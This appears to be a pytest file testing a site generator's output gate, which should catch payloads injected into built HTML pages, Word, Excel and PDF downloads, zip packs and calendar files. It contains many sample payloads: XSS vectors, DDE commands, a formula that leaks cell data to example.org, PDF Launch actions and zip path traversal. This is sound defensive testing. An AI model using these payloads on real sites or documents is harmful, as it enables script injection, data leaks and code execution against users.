"""The gate on the output: payloads injected straight into built files are caught.

The input checks never see these payloads: each is written into a built page or download
after rendering, the way a trick that slipped past validation would arrive. The gate must
name the built file (and its source where it can), and a build it stops must leave the
previous site as it was.
"""

from __future__ import annotations

import dataclasses
import io
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from conftest import REPO, write_project
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from test_build import tree_digest

from generator.cli import build as build_module
from generator.cli.build import BuildOptions, build
from generator.export.workbook import TABLE_ROW
from generator.gate import Finding, GateClosed, check_output, enforce
from generator.store import Store

PAGE = "handbook/basics/welcome/index.html"
CHAPTER = "content/handbook/basics/welcome.md"
PARAGRAPH = "<p>Schools improve together.</p>"
DOCX = "downloads/frameworks/tiny/tiny.docx"
XLSX = "downloads/frameworks/tiny/self-review.xlsx"
PDF = "downloads/frameworks/tiny/tiny.pdf"
PACK = "downloads/training-days/day-1.zip"
PACKED_DOCX = "day-1/01-intro/handouts.docx"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The tiny project built once, with every download; tests tamper with copies."""
    root = write_project(tmp_path_factory.mktemp("gate") / "project")
    (root / "mkdocs.yml").write_text((REPO / "mkdocs.yml").read_text(), encoding="utf-8")
    (root / "theme").symlink_to(REPO / "theme")
    build(root, BuildOptions())
    return root


@pytest.fixture
def site(built: Path, tmp_path: Path) -> Path:
    """A copy of the built site to tamper with."""
    return Path(shutil.copytree(built / "site", tmp_path / "site"))


def findings(site: Path, built: Path) -> list[Finding]:
    return check_output(site, built / "build" / "docs")


def inject_into_page(site: Path, payload: str, page: str = PAGE) -> None:
    path = site / page
    html = path.read_text(encoding="utf-8")
    assert PARAGRAPH in html
    path.write_text(html.replace(PARAGRAPH, PARAGRAPH + payload), encoding="utf-8")


def rewrite_zip(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The same zip archive with one member changed (or added, when it was missing)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        names = old.namelist()
        for name in names:
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
        if part not in names:
            new.writestr(part, change(b""))
    return out.getvalue()


def tamper(site: Path, rel: str, part: str, change: Callable[[bytes], bytes]) -> None:
    path = site / rel
    path.write_bytes(rewrite_zip(path.read_bytes(), part, change))


def into_body(xml: str) -> Callable[[bytes], bytes]:
    """Puts WordprocessingML just inside a document's body."""
    return lambda data: data.replace(b"<w:body>", b"<w:body>" + xml.encode(), 1)


def test_the_untampered_tiny_site_passes(site: Path, built: Path) -> None:
    assert findings(site, built) == []


HTML_PAYLOADS = {
    "event handler": (
        '<img src="x" onerror="window.__pwned=1">',
        "event handler attribute 'onerror'",
    ),
    "handler after a slash": (
        '<img/src="x"/onerror=alert(1)>',
        "event handler attribute 'onerror'",
    ),
    "script element": (
        "<script>window.__pwned=1</script>",
        "inline <script> the theme does not write",
    ),
    "script from elsewhere": (
        '<script src="https://example.org/x.js"></script>',
        "<script src='https://example.org/x.js'>",
    ),
    "javascript link": (
        '<a href="javascript:alert(1)">x</a>',
        "<a href> leads to a 'javascript:' address",
    ),
    "encoded javascript link": (
        '<a href="jav&#x09;ascript&colon;alert(1)">x</a>',
        "'javascript:' address",
    ),
    "vbscript link": ('<a href=" VBScript:msgbox(1)">x</a>', "'vbscript:' address"),
    "data image": (
        '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
        "<img src> leads to a 'data:' address",
    ),
    "srcset": (
        '<img srcset="a.png 1x, javascript:alert(1) 2x">',
        "<img srcset> leads to a 'javascript:'",
    ),
    "svg link": (
        '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
        "<a xlink:href> leads to a 'javascript:'",
    ),
    "svg animation": (
        '<svg><a><animate attributeName="href" to="javascript:alert(1)"/></a></svg>',
        "<animate to> leads to a 'javascript:'",
    ),
    "form action": (
        '<form action="javascript:alert(1)"><button>Go</button></form>',
        "a <form> the theme does not write",
    ),
    "button formaction": (
        '<button formaction="javascript:alert(1)">Go</button>',
        "<button formaction> leads to a 'javascript:'",
    ),
    "iframe": ('<iframe src="https://example.org"></iframe>', "a <iframe> element"),
    "srcdoc": (
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        "has a srcdoc attribute",
    ),
    "object": ('<object data="x.swf"></object>', "a <object> element"),
    "embed": ('<embed src="x.swf">', "a <embed> element"),
    "base": ('<base href="https://example.org/">', "a <base> element"),
    "meta refresh": (
        '<meta http-equiv="refresh" content="0;url=https://example.org">',
        "<meta http-equiv='refresh'>",
    ),
    "style attribute": (
        '<p style="position:fixed;inset:0">Sign in again</p>',
        "style attribute the theme does not write",
    ),
    "style element": ("<style>body{display:none}</style>", "a <style> element"),
    "svg style mutation": (
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "event handler attribute 'onerror'",
    ),
    "noscript": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
        "a <noscript> element",
    ),
    "template": ("<template><img src=x onerror=alert(1)></template>", "a <template> element"),
    "clobbered theme id": ('<p id="__config">{}</p>', "id '__config' appears 2 times"),
    "stylesheet from elsewhere": (
        '<link rel="stylesheet" href="//example.org/x.css">',
        "a <link> to another site",
    ),
}


@pytest.mark.parametrize("payload, expected", HTML_PAYLOADS.values(), ids=HTML_PAYLOADS.keys())
def test_gate_catches_markup_injected_into_a_page(
    site: Path, built: Path, payload: str, expected: str
) -> None:
    inject_into_page(site, payload)
    found = findings(site, built)
    assert found, payload
    assert {(f.path, f.source) for f in found} == {(PAGE, CHAPTER)}
    assert any(expected in f.message for f in found), [f.message for f in found]


def test_gate_catches_script_in_an_svg_image(site: Path, built: Path) -> None:
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    (site / "assets/images/chart.svg").write_text(svg, encoding="utf-8")
    assert [f.format_text() for f in findings(site, built)] == [
        "assets/images/chart.svg: a <script> element"
    ]


def test_gate_catches_markup_in_the_search_index(site: Path, built: Path) -> None:
    index = site / "search/search_index.json"
    index.write_text(
        index.read_text(encoding="utf-8").replace(
            "Schools improve together.", "<img src=x onerror=alert(1)>", 1
        ),
        encoding="utf-8",
    )
    [found] = findings(site, built)
    assert found.path == "search/search_index.json"
    assert "event handler attribute 'onerror'" in found.message


def test_gate_catches_a_script_file_outside_the_theme(site: Path, built: Path) -> None:
    (site / "downloads/run.js").write_text("alert(1)", encoding="utf-8")
    assert [f.message for f in findings(site, built)] == [
        "a script file outside the theme's own scripts"
    ]


WORD_PAYLOADS = {
    "remote picture field": (
        f'<w:p {W_NS}><w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://example.org/b.png&quot; \\d "/></w:p>',
        "a Word field the exporters do not write: 'INCLUDEPICTURE \"https://example.org/b.png\" \\d'",
    ),
    "field split across runs": (
        f'<w:p {W_NS}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r>'
        '<w:r><w:instrText>AUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
        "a Word field the exporters do not write: 'DDEAUTO cmd \"/c calc\"'",
    ),
    "altChunk": (
        f'<w:altChunk {W_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rIdX"/>',
        "a <altChunk> element, which brings in another document or program",
    ),
}


@pytest.mark.parametrize("xml, expected", WORD_PAYLOADS.values(), ids=WORD_PAYLOADS.keys())
def test_gate_catches_word_payloads(site: Path, built: Path, xml: str, expected: str) -> None:
    tamper(site, DOCX, "word/document.xml", into_body(xml))
    [found] = findings(site, built)
    assert found.path == DOCX
    assert found.source == "frameworks/tiny.yml"
    assert found.message == f"word/document.xml: {expected}"


def test_the_handbook_table_of_contents_field_is_known(site: Path, built: Path) -> None:
    docx = zipfile.ZipFile(site / "downloads/handbook/test-partnership.docx")
    assert b"TOC \\o" in docx.read("word/document.xml")
    assert findings(site, built) == []


def add_relationship(xml: str) -> Callable[[bytes], bytes]:
    return lambda data: data.replace(b"</Relationships>", xml.encode() + b"</Relationships>")


RELATIONSHIPS = {
    "remote image": (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://example.org/b.png" TargetMode="External"/>',
        "an external 'image' relationship to 'https://example.org/b.png'",
    ),
    "script hyperlink": (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>',
        "an external 'hyperlink' relationship to 'javascript:alert(1)'",
    ),
    "attached template": (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://example.org/t.dotm" TargetMode="External"/>',
        "a relationship of type 'attachedTemplate' to 'https://example.org/t.dotm'",
    ),
}


@pytest.mark.parametrize("xml, expected", RELATIONSHIPS.values(), ids=RELATIONSHIPS.keys())
def test_gate_catches_relationships_to_elsewhere(
    site: Path, built: Path, xml: str, expected: str
) -> None:
    tamper(site, DOCX, "word/_rels/document.xml.rels", add_relationship(xml))
    assert [f.message for f in findings(site, built)] == [
        f"word/_rels/document.xml.rels: {expected}"
    ]


def test_web_hyperlinks_in_word_are_allowed(site: Path, built: Path) -> None:
    link = RELATIONSHIPS["script hyperlink"][0].replace(
        "javascript:alert(1)", "https://example.org"
    )
    tamper(site, DOCX, "word/_rels/document.xml.rels", add_relationship(link))
    assert findings(site, built) == []


def test_gate_catches_a_macro_part(site: Path, built: Path) -> None:
    tamper(site, DOCX, "word/vbaProject.bin", lambda _: b"\xd0\xcf\x11\xe0")
    assert [f.message for f in findings(site, built)] == [
        "word/vbaProject.bin: a part that holds a program or a link to other data"
    ]


def test_gate_catches_a_field_inside_a_pack(site: Path, built: Path) -> None:
    bad = WORD_PAYLOADS["remote picture field"][0]
    inner = rewrite_zip(
        zipfile.ZipFile(site / PACK).read(PACKED_DOCX), "word/document.xml", into_body(bad)
    )
    tamper(site, PACK, PACKED_DOCX, lambda _: inner)
    [found] = findings(site, built)
    assert (found.path, found.source) == (PACK, "training-day-pack 'day-1'")
    assert found.message.startswith(f"{PACKED_DOCX}: word/document.xml: a Word field")


def test_gate_catches_a_pack_member_that_unpacks_elsewhere(site: Path, built: Path) -> None:
    tamper(site, PACK, "../../evil.docx", lambda _: b"")
    assert [f.message for f in findings(site, built)] == [
        "../../evil.docx: a file name that unpacks outside the pack's folder",
        "../../evil.docx: not a zip package, so Office may read it as something else",
    ]


@pytest.mark.parametrize("name", ["day-1/README.hta", "day-1/01-intro/guide.docm"])
def test_gate_catches_a_pack_member_the_exporters_do_not_make(
    site: Path, built: Path, name: str
) -> None:
    tamper(site, PACK, name, lambda _: b"<script>alert(1)</script>")
    assert [f.message for f in findings(site, built)] == [
        f"{name}: a file of a kind the exporters do not pack"
    ]


@pytest.mark.parametrize("name", ["guide.docm", "setup.exe", "frameworks/tiny/form.xlsm"])
def test_gate_catches_a_download_the_exporters_do_not_make(
    site: Path, built: Path, name: str
) -> None:
    (site / "downloads" / name).write_bytes(b"MZ")
    assert [f.format_text() for f in findings(site, built)] == [
        f"downloads/{name}: a download of a kind the exporters do not make"
    ]


def test_a_long_list_of_findings_is_cut_short(site: Path, built: Path) -> None:
    inject_into_page(site, '<img src="x" onerror="alert(1)">' * 50)
    with pytest.raises(GateClosed) as closed:
        enforce(site, built / "build" / "docs")
    lines = str(closed.value).splitlines()
    assert lines[0].startswith("the gate on the output stopped the build (50 findings)")
    assert len(lines) == 1 + 40 + 1
    assert lines[-1] == "  ... and 10 more"


def save_workbook(path: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
    workbook = openpyxl.load_workbook(path)
    change(workbook)
    workbook.save(path)


def test_the_summary_formulas_the_exporter_writes_pass(site: Path, built: Path) -> None:
    save_workbook(site / XLSX, lambda workbook: None)
    summary = openpyxl.load_workbook(site / XLSX)["Summary"]
    assert str(summary["C2"].value).startswith("=SUMPRODUCT(")
    assert findings(site, built) == []


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.org/?leak="&A2,"Open")',
        "=cmd|' /C calc'!A0",
        "=COUNTIF('Self-review'!$B$2:$B$2,$A2)+WEBSERVICE(\"https://example.org\")",
    ],
)
def test_gate_catches_a_formula_the_exporter_does_not_write(
    site: Path, built: Path, formula: str
) -> None:
    def add(workbook: openpyxl.Workbook) -> None:
        workbook["Self-review"][f"E{TABLE_ROW + 1}"] = formula

    save_workbook(site / XLSX, add)
    [found] = findings(site, built)
    assert (found.path, found.source) == (XLSX, "frameworks/tiny.yml")
    assert found.message == (
        f"xl/worksheets/sheet1.xml: a formula the exporter does not write: '{formula}'"
    )


def test_gate_catches_an_external_link_in_a_workbook(site: Path, built: Path) -> None:
    tamper(site, XLSX, "xl/externalLinks/externalLink1.xml", lambda _: b"<externalLink/>")
    assert [f.message for f in findings(site, built)] == [
        "xl/externalLinks/externalLink1.xml: a part that holds a program or a link to other data"
    ]


def rewrite_pdf(path: Path, change: Callable[[PdfWriter], None]) -> None:
    writer = PdfWriter(clone_from=PdfReader(path))
    change(writer)
    with path.open("wb") as out:
        writer.write(out)


def action(kind: str, **entries: str) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject(kind),
            **{NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()},
        }
    )


def test_gate_catches_javascript_in_a_pdf(site: Path, built: Path) -> None:
    def script(writer: PdfWriter) -> None:
        names = ArrayObject([TextStringObject("x"), action("/JavaScript", JS="app.alert(1)")])
        tree = DictionaryObject({NameObject("/Names"): names})
        writer.root_object[NameObject("/Names")] = DictionaryObject(
            {NameObject("/JavaScript"): tree}
        )

    rewrite_pdf(site / PDF, script)
    assert sorted(f.message for f in findings(site, built)) == [
        "JavaScript (/JS)",
        "JavaScript (/JavaScript)",
        "a JavaScript action",
    ]


def test_gate_catches_a_launch_action_when_a_pdf_opens(site: Path, built: Path) -> None:
    def launch(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = action("/Launch", F="calc.exe")

    rewrite_pdf(site / PDF, launch)
    assert sorted(f.message for f in findings(site, built)) == [
        "a Launch action",
        "an action that runs when the file opens (/Launch)",
    ]


def test_gate_catches_a_pdf_link_that_is_not_a_web_address(site: Path, built: Path) -> None:
    def link(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/Outlines")] = DictionaryObject(
            {NameObject("/A"): action("/URI", URI="file:///etc/passwd")}
        )

    rewrite_pdf(site / PDF, link)
    assert [f.message for f in findings(site, built)] == [
        "a link to 'file:///etc/passwd', not a web or e-mail address"
    ]


def test_tampered_build_leaves_the_previous_site_untouched(
    built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    project = Path(shutil.copytree(built, tmp_path / "project", symlinks=True))
    before = tree_digest(project / "site")
    real_build_site = build_module.build_site

    def build_then_inject(
        engine: str, config: Path, site_dir: Path, *args: object, **kw: object
    ) -> None:
        real_build_site(engine, config, site_dir, *args, **kw)  # type: ignore[arg-type]
        inject_into_page(site_dir, '<img src="x" onerror="window.__pwned=1">')

    monkeypatch.setattr(build_module, "build_site", build_then_inject)
    chapter = project / CHAPTER
    chapter.write_text(chapter.read_text(encoding="utf-8") + "\nOne more line.\n")
    with pytest.raises(GateClosed) as closed:
        build(project, BuildOptions())
    handler = "<img> has an event handler attribute 'onerror'"
    lines = str(closed.value).splitlines()
    assert lines[0].startswith("the gate on the output stopped the build (2 findings);")
    pack = "downloads/offline/test-partnership.zip (from offline 'test-partnership')"
    assert sorted(lines[1:]) == [
        f"  {pack}: {PAGE}: {handler}",  # the copy of the page in the offline pack
        f"  {PAGE} (from {CHAPTER}): {handler}",
    ]
    assert tree_digest(project / "site") == before
    assert not [p for p in project.iterdir() if p.name.startswith(".site")]


def test_a_calendar_alarm_or_attachment_is_refused() -> None:
    from generator.gate.calendar import check_ics

    safe = (
        b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//test//EN\r\nBEGIN:VEVENT\r\n"
        b"UID:a@b\r\nDTSTAMP:20260101T000000Z\r\nDTSTART;VALUE=DATE:20261001\r\n"
        b"SUMMARY:Self-review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    assert check_ics(safe) == []
    alarm = b"BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///tmp/x.sh\r\nEND:VALARM\r\n"
    hostile = safe.replace(b"END:VEVENT", alarm + b"URL:javascript:alert(1)\r\nEND:VEVENT")
    assert check_ics(hostile) == [
        "a part the exporter does not write: VALARM",
        "a property the exporter does not write: ATTACH",
        "an address 'javascript:alert(1)' that is not the web or e-mail",
    ]


def test_remembered_findings_never_hide_a_changed_page(
    site: Path, built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from generator.gate import pages

    memo = Store.at(tmp_path / "cache")
    docs = built / "build" / "docs"
    assert check_output(site, docs, memo) == []
    assert list((tmp_path / "cache").rglob("*")), "the findings are kept in the store"
    read: list[str] = []
    real_check_page = pages.check_page

    def counted(html: bytes, page: str, known: pages.KnownMarkup) -> list[str]:
        read.append(page)
        return real_check_page(html, page, known)

    monkeypatch.setattr("generator.gate.check_page", counted)
    assert check_output(site, docs, memo) == []
    assert read == [], "unchanged pages are not read again"
    inject_into_page(site, '<img src="x" onerror="window.__pwned=1">')
    assert [f.message for f in check_output(site, docs, memo)] == [
        "<img> has an event handler attribute 'onerror'"
    ]
    assert read == [PAGE], "only the changed page is read again"
    again = check_output(site, docs, memo)
    assert [(f.path, f.source) for f in again] == [(PAGE, CHAPTER)], "findings are remembered too"


def test_a_download_in_a_new_offline_pack_is_not_read_again(
    site: Path, built: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An edition's pack is new, but holds downloads the gate has read already (in its site,
    or in the core's): their findings are remembered, a changed one is read again."""
    from generator.gate import OutputReader

    memo = Store.at(tmp_path / "cache")
    docs = built / "build" / "docs"
    assert check_output(site, docs, memo) == []
    [pack] = (site / "downloads" / "offline").glob("*.zip")
    with zipfile.ZipFile(pack) as archive:
        [pdf] = [n for n in archive.namelist() if n.endswith(".pdf")][:1]
    read: list[str] = []
    real = OutputReader.check_download

    def counted(self: OutputReader, name: str, data: bytes) -> list[str]:
        read.append(name)
        return real(self, name, data)

    monkeypatch.setattr(OutputReader, "check_download", counted)
    tamper(site, pack.relative_to(site).as_posix(), "index.html", lambda page: page + b" ")
    assert check_output(site, docs, memo) == []
    assert read == []
    tamper(site, pack.relative_to(site).as_posix(), pdf, lambda data: data + b"%")
    check_output(site, docs, memo)
    assert read == [pdf]


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            lambda data: data[:-2] + b";fetch('x');\n",
            "the search index is not the JSON MkDocs writes",
        ),
        (
            lambda data: b"fetch('x');" + data,
            "not the search index search/search_index.json as a script",
        ),
    ],
)
def test_code_in_the_packs_index_script_is_refused(
    site: Path, built: Path, change: Callable[[bytes], bytes], message: str
) -> None:
    """The pack holds the index only as a script (its JSON is left out), so the gate reads
    the index from the script, and the script must be nothing but the index."""
    [pack] = (site / "downloads" / "offline").glob("*.zip")
    rel = pack.relative_to(site).as_posix()
    tamper(site, rel, "search/search_index.js", change)
    found = [f.message for f in findings(site, built) if f.path == rel]
    assert found == [f"search/search_index.js: {message}"]


def test_a_page_moved_elsewhere_is_read_again(site: Path, built: Path, tmp_path: Path) -> None:
    """A script's address is read from the page's own folder: the same bytes in another
    place are another file."""
    memo = Store.at(tmp_path / "cache")
    docs = built / "build" / "docs"
    assert check_output(site, docs, memo) == []
    home = (site / "index.html").read_bytes()
    deeper = site / "handbook" / "basics" / "welcome" / "index.html"
    deeper.write_bytes(home)
    assert any("script src" in f.message for f in check_output(site, docs, memo))


def test_a_remembered_search_entry_never_hides_a_changed_one(
    site: Path, built: Path, tmp_path: Path
) -> None:
    memo = Store.at(tmp_path / "cache")
    docs = built / "build" / "docs"
    assert check_output(site, docs, memo) == []
    index = site / "search" / "search_index.json"
    data = json.loads(index.read_text(encoding="utf-8"))
    data["docs"][1]["text"] += '<img src="x" onerror="alert(1)">'
    index.write_text(json.dumps(data), encoding="utf-8")
    assert [f.message for f in check_output(site, docs, memo)] == [
        f"entry '{data['docs'][1]['location']}' text: <img> has an event handler attribute"
        " 'onerror'"
    ]


def test_a_memo_from_other_gate_code_is_not_used(site: Path, built: Path, tmp_path: Path) -> None:
    memo = Store.at(tmp_path / "cache")
    docs = built / "build" / "docs"
    inject_into_page(site, '<img src="x" onerror="window.__pwned=1">')
    check_output(site, docs, memo)
    table = memo.table("gate")
    for key in table.rows:
        table.put(key, [])
    table.save()
    assert check_output(site, docs, memo) == [], "the same code trusts its own record"
    other = dataclasses.replace(memo, code="another version of the gate")
    assert len(check_output(site, docs, other)) == 1
